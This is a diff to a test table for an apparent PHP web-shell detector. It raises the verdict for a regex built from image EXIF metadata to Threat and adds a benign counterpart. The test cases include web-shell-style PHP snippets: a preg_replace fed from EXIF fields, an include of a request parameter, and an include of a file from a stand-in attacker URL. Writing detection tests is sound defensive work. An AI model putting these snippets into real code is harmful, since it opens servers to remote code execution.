@@ -299,7 +299,10 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
        Verdict::Clean},
       {"regex fed from image metadata",
        "<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');",
-       Verdict::Suspicious},
+       Verdict::Threat},
+      {"a gallery tidying the camera name it read from a photo",
+       "<?php $e = exif_read_data($path); echo preg_replace('/\\s+/', ' ', $e['Model']);",
+       Verdict::Clean},
       // Code loaded from the request or the network.
       {"include of a request path", "<?php include $_GET['page'];", Verdict::Threat},
       {"include of a URL", "<?php include 'http://evil.example/x.txt';", Verdict::Threat},
